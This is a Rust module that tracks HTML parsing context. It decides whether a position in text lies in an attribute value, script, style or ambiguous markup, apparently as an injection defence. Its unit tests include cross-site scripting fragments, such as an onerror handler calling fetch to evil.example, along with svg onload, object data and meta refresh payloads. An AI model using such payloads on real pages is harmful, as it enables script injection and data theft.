//! Whether a place in a text is in HTML that may lead somewhere.

/// Attributes that lead nowhere, whatever their element is.
const HARMLESS: [u128; 8] = [
    word(b"alt"),
    word(b"aria-label"),
    word(b"class"),
    word(b"id"),
    word(b"lang"),
    word(b"placeholder"),
    word(b"title"),
    word(b"value"),
];

/// Reads a text byte by byte, as browsers read HTML, and knows whether the next byte stands in
/// the value of an attribute, in a script or in a style sheet.
///
/// Any attribute counts but those that lead nowhere: a `<base>` may make an address of the
/// value of one, and code may run in another. Where it depends on what stands before whether
/// something is a tag at all, as within a comment, a value or a title, readers do not agree
/// on what follows: everything behind it counts.
#[derive(Clone, Copy, Debug)]
pub(super) struct Html {
    at: At,
    /// The name of the tag or attribute, or the last bytes of a script.
    word: u128,
    /// What begins at the end of the tag.
    element: Option<Element>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum At {
    Text,
    /// After `<`.
    Open,
    /// After `<!` and so many dashes.
    Mark(u8),
    /// In a comment, after so many dashes.
    Comment(u8),
    /// In the name of a tag.
    Name,
    /// In a tag, where the name of an attribute may begin.
    Tag,
    Attribute,
    /// After the name of an attribute and a blank.
    After,
    /// After `=`; with whether the attribute leads nowhere.
    Before(bool),
    /// In a value, up to this quote, or without quotes for 0.
    Value(u8, bool),
    /// In an element that has only text in it.
    Content,
    /// In that, after `<`.
    End,
    /// Readers do not agree on where this is.
    Lost,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Element {
    /// One that has no elements in it, by its name.
    Plain(u128),
    Script,
    Style,
}

/// Elements that have only text in them.
const PLAIN: [u128; 7] = [
    word(b"iframe"),
    word(b"noembed"),
    word(b"noframes"),
    word(b"noscript"),
    word(b"textarea"),
    word(b"title"),
    word(b"xmp"),
];

impl Default for Html {
    fn default() -> Self {
        Self::NONE
    }
}

impl Html {
    /// That of an empty text.
    pub(super) const NONE: Self = Self {
        at: At::Text,
        word: 0,
        element: None,
    };

    /// Reads the next byte, in lower case.
    pub(super) fn step(&mut self, byte: u8) {
        self.at = match self.at {
            At::Lost => At::Lost,
            At::Content if byte == b'<' => {
                self.word = 0;
                At::End
            }
            At::Content => At::Content,
            At::End => self.in_end(byte),
            // Somebody may read a tag in it.
            At::Comment(_) if byte == b'<' => At::Lost,
            At::Value(quote, _) if quote != 0 && byte == b'<' => At::Lost,
            At::Comment(dashes) => match byte {
                b'-' => At::Comment((dashes + 1).min(2)),
                b'!' if dashes == 2 => At::Comment(2),
                b'>' if dashes == 2 => At::Text,
                _ => At::Comment(0),
            },
            At::Value(quote, is_harmless) => match byte {
                b'>' if quote == 0 => self.close(),
                _ if quote == 0 && is_blank(byte) || quote != 0 && byte == quote => At::Tag,
                _ => At::Value(quote, is_harmless && byte != b'<'),
            },
            At::Before(is_harmless) => match byte {
                b'"' | b'\'' => At::Value(byte, is_harmless),
                b'>' => self.close(),
                _ if is_blank(byte) => At::Before(is_harmless),
                _ => At::Value(0, is_harmless),
            },
            _ if byte == b'<' => At::Open,
            At::Text => At::Text,
            At::Open => match byte {
                b'a'..=b'z' => {
                    (self.word, self.element) = (u128::from(byte), None);
                    At::Name
                }
                b'!' => At::Mark(0),
                _ => At::Text,
            },
            At::Mark(dashes) => match (byte, dashes) {
                (b'-', 0) => At::Mark(1),
                (b'-', _) => At::Comment(2),
                _ => At::Text,
            },
            At::Name => {
                if byte == b'>' || byte == b'/' || is_blank(byte) {
                    self.element = match self.word {
                        name if name == word(b"script") => Some(Element::Script),
                        name if name == word(b"style") => Some(Element::Style),
                        name if PLAIN.contains(&name) => Some(Element::Plain(name)),
                        _ => None,
                    };
                }
                match self.word == word(b"plaintext") {
                    true => At::Lost,
                    false => self.in_tag(byte, At::Name),
                }
            }
            At::Tag | At::Attribute | At::After if byte == b'=' && self.at != At::Tag => {
                At::Before(HARMLESS.contains(&self.word))
            }
            At::Tag | At::After => {
                let at = self.in_tag(byte, At::Attribute);
                if at == At::Attribute {
                    self.word = u128::from(byte);
                }
                match (self.at, at) {
                    (At::After, At::After) | (At::Tag, At::Tag | At::After) => self.at,
                    _ => at,
                }
            }
            At::Attribute => self.in_tag(byte, At::Attribute),
        };
    }

    /// Returns whether the next byte stands where it may lead somewhere.
    pub(super) const fn is_inside(&self) -> bool {
        match self.at {
            At::Before(is_harmless) | At::Value(_, is_harmless) => !is_harmless,
            At::Content | At::End => !matches!(self.element, Some(Element::Plain(_))),
            At::Lost => true,
            _ => false,
        }
    }

    /// Goes on in a tag: in a `name`, or behind it.
    fn in_tag(&mut self, byte: u8, name: At) -> At {
        match byte {
            b'>' => self.close(),
            b'/' => At::Tag,
            _ if is_blank(byte) => match name {
                At::Attribute => At::After,
                _ => At::Tag,
            },
            _ => {
                self.word = self.word << 8 | u128::from(byte);
                name
            }
        }
    }

    /// Goes on behind the end of a tag.
    fn close(&mut self) -> At {
        self.word = 0;
        match self.element {
            Some(_) => At::Content,
            None => At::Text,
        }
    }

    /// Goes on behind `<` in an element that has only text in it. Nothing but its own end may
    /// be a tag there: readers do not agree on what any other is.
    fn in_end(&mut self, byte: u8) -> At {
        if self.word == 0 && !(byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'!' | b'?')) {
            return if byte == b'<' { At::End } else { At::Content };
        }
        let is_over = byte == b'>' || is_blank(byte) || byte == b'/' && self.word != 0;
        if !is_over {
            self.word = self.word << 8 | u128::from(byte);
            return At::End;
        }
        let name = match self.element {
            Some(Element::Plain(name)) => name,
            Some(Element::Script) => word(b"script"),
            Some(Element::Style) => word(b"style"),
            None => 0,
        };
        let is_own = self.word == word(b"/") << (8 * len(name)) | name;
        if !is_own {
            return At::Lost;
        }
        self.element = None;
        if byte == b'>' { At::Text } else { At::Tag }
    }
}

/// The bytes of a short word, the last of them lowest.
const fn word(text: &[u8]) -> u128 {
    let (mut out, mut rest) = (0, text);
    while let [byte, after @ ..] = rest {
        out = out << 8 | *byte as u128;
        rest = after;
    }
    out
}

/// How many bytes a word has.
const fn len(word: u128) -> u32 {
    16 - word.leading_zeros() / 8
}

const fn is_blank(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | 0x0c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_of_an_attribute_a_script_and_a_style_sheet_are_seen() {
        for (text, inside) in [
            ("a < b and c > d, x=", false),
            ("Vec<String> = ", false),
            ("<p>", false),
            ("<p>Dear ", false),
            ("<ann", false),
            ("<p title=\"", false),
            ("<p title=\"a\" data=\"", true),
            ("<input value='", false),
            ("<input value='<", true),
            ("<input value='a' ", false),
            ("<input value=a x=", true),
            ("<p data-title=\"", true),
            ("<object data=\"evil.example/", true),
            ("<object data = \"", true),
            ("<object data=\"a\"> ", false),
            ("<object data=a>", false),
            ("<x xml:base=\"", true),
            ("<set attributename=href to=\"", true),
            ("<svg onload=", true),
            ("<img/src=x/onerror=\"", true),
            ("<img src=x onerror=\"fetch('//evil.example/?q='+'", true),
            ("<meta http-equiv=refresh content=\"0;url=/x/", true),
            ("<meta content='>' content=\"", true),
            ("<a href='x'title='", false),
            ("<a =x=", true),
            ("<b<meta content=", true),
            ("<script>", true),
            ("<script>x</script>", false),
            ("<script>x</script >", false),
            ("<script>x</scripts>", true),
            ("<script src='x'>", true),
            ("<scripts>", false),
            ("<style>@import '/x/", true),
            ("<style>a</script>", true),
            ("<script>a < b; c <= d</script>", false),
            ("<svg><style><set title=\"</style>\" to=\"", true),
            ("<svg><script></b title=\"</script>\" to=\"", true),
            ("<script><<</script>", false),
            ("<title>a < b</title>", false),
            ("<style>a</style> b", false),
            ("<svg><style>", true),
            ("<script><!--<script></script>", true),
            ("<script><script></script>", true),
            ("<script><!--</script>", true),
            ("<style><![cdata[</style>", true),
            ("<!-- a \"note\" -->", false),
            ("<!-- a --><p title=\"", false),
            ("<!-- <p>a</p> -->", true),
            ("<!-- <x y=\" --> <meta content=\"", true),
            ("<p title=\"<b>\">", true),
            ("<title>a</title>", false),
            ("<title>a</title ><p>", false),
            ("<title>a", false),
            ("<script>a<", true),
            ("<title><!--</title><meta content=\"", true),
            ("<title><p></title>", true),
            ("<textarea>a</textarea x='", true),
            (
                "<textarea><p title=\"</textarea><meta a='\">' content=\"",
                true,
            ),
            (
                "<textarea><script></textarea><meta a=\"</script>\" content=\"",
                true,
            ),
            (
                "<!-- <x title=\" --><title><!--</title><meta a='\">' content=\"",
                true,
            ),
            ("<xmp>a</xmpx>", true),
            ("<plaintext>", true),
            ("<iframe src='x'></iframe>", false),
            ("<!--> <meta content=\"", true),
            ("<!doctype html><p>", false),
            ("</p x=", false),
        ] {
            let mut html = Html::default();
            text.bytes().for_each(|byte| html.step(byte));
            assert_eq!(html.is_inside(), inside, "{text}");
        }
    }
}
